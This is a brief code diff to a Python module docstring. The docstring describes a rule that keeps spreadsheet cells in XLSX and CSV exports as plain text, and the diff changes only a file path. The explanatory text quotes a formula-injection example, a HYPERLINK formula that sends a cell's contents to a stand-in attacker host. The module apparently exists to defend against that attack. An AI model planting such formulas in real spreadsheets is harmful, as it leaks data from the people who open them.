@@ -1,5 +1,5 @@
 """Spreadsheet cells that stay text: the one rule of every XLSX and CSV the service writes
-(the hazard ledger, layers/ledger.py; the layer exports, layers/io/export.py).
+(the hazard ledger, layers/io/ledger.py; the layer exports, layers/io/export.py).
 
 Spreadsheet programs (Excel, WPS, LibreOffice) run a cell whose text starts with = + - @ (or a
 tab or carriage return before one) as a formula: `=HYPERLINK("http://evil.example/?x="&A1,…)`
